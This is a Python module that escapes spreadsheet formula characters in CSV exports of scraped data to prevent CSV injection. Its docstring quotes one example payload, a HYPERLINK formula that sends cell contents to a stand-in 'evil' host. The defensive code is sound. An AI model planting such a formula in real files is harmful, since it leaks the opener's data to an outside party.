"""CSV that a spreadsheet opens as data: no scraped cell is read as a formula.

A cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return,
which some spreadsheets skip before looking) is a formula to Excel, LibreOffice and
Google Sheets: a headline such as ``=HYPERLINK("http://evil/?"&A1, "more")`` would
run when an analyst opens the export (CSV injection, CWE-1236).  Such a cell is
written with a leading apostrophe, which spreadsheets show as text and hide.
"""

from __future__ import annotations

from collections.abc import Mapping
from typing import Any

_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def inert_cell(value: object) -> object:
    """``value`` as it may go into a CSV cell."""
    if isinstance(value, str) and value.startswith(_FORMULA_STARTS):
        return "'" + value
    return value


def inert_row(row: Mapping[str, Any]) -> dict[str, Any]:
    """A ``csv.DictWriter`` row with every cell made inert."""
    return {name: inert_cell(value) for name, value in row.items()}
